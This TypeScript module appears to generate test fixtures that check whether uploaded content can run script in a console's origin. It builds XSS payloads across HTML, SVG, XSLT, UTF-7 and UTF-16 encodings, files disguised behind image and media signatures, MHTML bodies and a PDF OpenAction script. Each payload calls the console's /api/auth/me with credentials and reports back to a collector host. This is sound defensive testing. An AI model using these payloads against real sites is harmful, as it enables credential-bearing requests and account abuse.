import { deflateRawSync } from 'node:zlib';

/** An object whose content tries to run in the origin that displays it. */
export interface ContentCase {
  readonly name: string;
  readonly contentType: string;
  readonly body: Buffer;
  readonly contentDisposition?: string;
  /** An invalid media type, refused by every write path, so only rows of old releases contain it. */
  readonly invalid?: true;
}

export interface Targets {
  /** The origin whose `/api/auth/me` the script tries to read with the browser's credentials. */
  readonly console: string;
  /** Receives a report from every script that runs. */
  readonly collector: string;
}

/** Returns a script that reports that it runs, where, and whether it could act as the console's user. */
export function programFor(name: string, { console, collector }: Targets): string {
  const id = encodeURIComponent(name);
  return [
    `console.log('RAN ${id}');`,
    `(async()=>{let me='none';try{me=String((await fetch('${console}/api/auth/me',{credentials:'include'})).status)}catch(e){me='blocked'}`,
    `await fetch('${collector}/ran?case=${id}&origin='+encodeURIComponent(self.origin)+'&me='+me,{mode:'no-cors'})})()`,
  ].join('');
}

export function contentCases(targets: Targets): readonly ContentCase[] {
  const cases: ContentCase[] = [];
  const add = (name: string, contentType: string, body: Buffer | string, more: Partial<ContentCase> = {}): void => {
    cases.push({ name, contentType, body: Buffer.from(body), ...more });
  };
  const program = (name: string): string => programFor(name, targets);
  const page = (name: string): string => `<!doctype html><html><body><script>${program(name)}</script></body></html>`;
  const xhtml = (name: string): string =>
    `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script>${program(name).replaceAll('&', '&amp;')}</script></body></html>`;
  const svg = (name: string): string =>
    `<svg xmlns="http://www.w3.org/2000/svg"><script>${program(name).replaceAll('&', '&amp;')}</script></svg>`;

  // HTML pages, by their own type and by types that browsers treat the same.
  for (const type of ['text/html', 'TEXT/HTML', 'text/html; charset=utf-8', 'text/html;', 'text/html; x=y; z']) {
    const valid = type !== 'text/html; x=y; z';
    add(`page as ${type}`, type, page(`page as ${type}`), valid ? {} : { invalid: true });
  }
  for (const type of [
    'application/xhtml+xml',
    'text/xml',
    'application/xml',
    'text/xsl',
    'application/xslt+xml',
    'application/rss+xml',
    'application/atom+xml',
    'application/mathml+xml',
    'application/vnd.mozilla.xul+xml',
    'application/rdf+xml',
    'image/vnd.anything+xml',
    'text/x+xml',
  ]) {
    add(`xhtml as ${type}`, type, xhtml(`xhtml as ${type}`));
  }
  for (const type of ['image/svg+xml', 'image/svg+xml; charset=utf-8', 'IMAGE/SVG+XML']) {
    add(`svg as ${type}`, type, svg(`svg as ${type}`));
  }
  add('svg in svgz', 'image/svg+xml', deflateRawSync(svg('svg in svgz')));

  // An XSLT style sheet that produces a page, inside its own document.
  for (const type of ['text/xml', 'application/xml', 'text/xsl']) {
    const name = `xslt in ${type}`;
    add(
      name,
      type,
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x:stylesheet id="s" version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:output method="html"/><x:template match="/"><html><body><script>${program(name).replaceAll('&', '&amp;')}</script></body></html></x:template></x:stylesheet>`,
    );
  }

  // Ambiguous media types, which readers may interpret differently.
  for (const type of [
    'image/png, text/html',
    'text/html, image/png',
    'text/plain, text/html',
    'image/png text/html',
    'image/png; text/html',
    'image/png;,text/html',
    'text/html/png',
    'image/png, text/html; charset=utf-8',
    '*/*, text/html',
    'text / html',
    'text/',
    '/html',
    'html',
    ',text/html',
    'text/plain; charset=utf-8; charset=utf-7',
    'text/plain; charset="utf-8',
    'text/plain; charset = utf-8',
  ]) {
    add(`two types: ${type}`, type, page(`two types: ${type}`), { invalid: true });
  }

  // Charsets in which harmless bytes form a page.
  const utf7 = (name: string): string => `<html><body>+ADw-script+AD4-${program(name)}+ADw-/script+AD4-</body></html>`;
  for (const type of [
    'text/plain; charset=utf-7',
    'text/html; charset=utf-7',
    'text/plain; charset=unicode-1-1-utf-7',
  ]) {
    add(`utf-7 in ${type}`, type, utf7(`utf-7 in ${type}`));
  }
  const utf16 = (name: string, mark: readonly number[]): Buffer =>
    Buffer.concat([Buffer.from(mark), Buffer.from(page(name), 'utf16le')]);
  add('utf-16 mark in text', 'text/plain', utf16('utf-16 mark in text', [0xff, 0xfe]));
  add('utf-16 mark in page', 'text/html', utf16('utf-16 mark in page', [0xff, 0xfe]));
  add('utf-16be mark in text', 'text/plain; charset=utf-16be', utf16('utf-16be mark in text', [0xff, 0xfe]).swap16());
  add('utf-8 mark in text', 'text/plain', `\ufeff${page('utf-8 mark in text')}`);
  for (const charset of ['iso-2022-jp', 'hz-gb-2312', 'x-user-defined', '"utf-8"']) {
    const name = `text in ${charset}`;
    add(name, `text/plain; charset=${charset}`, page(name));
  }

  // An HTML page under every displayable type, with and without that type's signature before it.
  const signatures: Readonly<Record<string, Buffer>> = {
    'image/png': Buffer.from('89504e470d0a1a0a', 'hex'),
    'image/jpeg': Buffer.from('ffd8ffe0', 'hex'),
    'image/gif': Buffer.from('GIF89a/*'),
    'image/webp': Buffer.from('RIFF\u0000\u0001\u0000\u0000WEBPVP8 '),
    'image/avif': Buffer.from('\u0000\u0000\u0000\u0020ftypavif'),
    'text/plain': Buffer.alloc(0),
    'application/pdf': Buffer.from('%PDF-1.7\n'),
    'audio/mpeg': Buffer.from('ID3'),
    'audio/wav': Buffer.from('RIFF\u0000\u0001\u0000\u0000WAVE'),
    'audio/ogg': Buffer.from('OggS\u0000'),
    'video/mp4': Buffer.from('\u0000\u0000\u0000\u0020ftypisom'),
    'video/webm': Buffer.from('1a45dfa3', 'hex'),
    'video/ogg': Buffer.from('OggS\u0000'),
  };
  for (const [type, signature] of Object.entries(signatures)) {
    add(`page as ${type}`, type, page(`page as ${type}`));
    const name = `page behind the signature of ${type}`;
    add(name, type, Buffer.concat([signature, Buffer.from(page(name))]));
  }
  for (const type of [
    'audio/x-unknown',
    'video/x-unknown',
    'image/x-unknown',
    'image/bmp',
    'image/x-icon',
    'text/x-unknown',
    'text/css',
    'text/csv',
    'text/vtt',
    'application/x-unknown',
    'unknown/unknown',
    'application/octet-stream',
    'binary/octet-stream',
    'application/json',
    'application/x-shockwave-flash',
    'application/java-archive',
    'application/x-mimearchive',
    'application/hta',
    'text/x-component',
    'text/rtf',
    'application/signed-exchange;v=b3',
    'application/webbundle',
    'text/event-stream',
  ]) {
    add(`page as ${type}`, type, page(`page as ${type}`));
  }

  // Archives and multipart bodies, each part with its own type.
  const parts = (name: string): string =>
    `--B\r\nContent-Type: text/html\r\nContent-Location: http://x/\r\n\r\n${page(name)}\r\n--B--\r\n`;
  for (const type of ['multipart/x-mixed-replace', 'multipart/related', 'multipart/mixed', 'multipart/form-data']) {
    const name = `parts as ${type}`;
    add(name, `${type}; boundary=B`, parts(name));
  }
  for (const type of ['message/rfc822', 'multipart/related', 'application/x-mimearchive']) {
    const name = `mhtml as ${type}`;
    add(
      name,
      `${type}${type.startsWith('multipart') ? '; boundary=B' : ''}`,
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; boundary="B"\r\n\r\n${parts(name)}`,
    );
  }

  add('pdf with a script', 'application/pdf', pdfWithScript(program('pdf with a script')));

  // Dispositions that a browser may interpret as inline.
  for (const disposition of [
    'inline',
    'inline; filename="a.html"',
    'attachment, inline',
    '"attachment"',
    'INLINE',
    'attachment; inline',
    ' ; inline',
    'x-shown',
  ]) {
    const name = `page, disposition ${disposition}`;
    add(name, 'text/html', page(name), { contentDisposition: disposition });
  }

  // Subresources of pages: scripts, modules, workers, styles.
  for (const type of [
    'text/javascript',
    'application/javascript',
    'application/ecmascript',
    'text/jscript',
    'text/javascript; charset=utf-8',
    'module/javascript',
    'application/json',
    'text/css',
    'application/wasm',
  ]) {
    const name = `program as ${type}`;
    add(name, type, program(name));
  }
  return cases;
}

/** A document that runs a script on opening. */
function pdfWithScript(program: string): string {
  const text = program.replaceAll(/[()\\]/g, String.raw`\$&`);
  return `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${text})>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 72 72]>>endobj
trailer<</Root 1 0 R>>
%%EOF`;
}
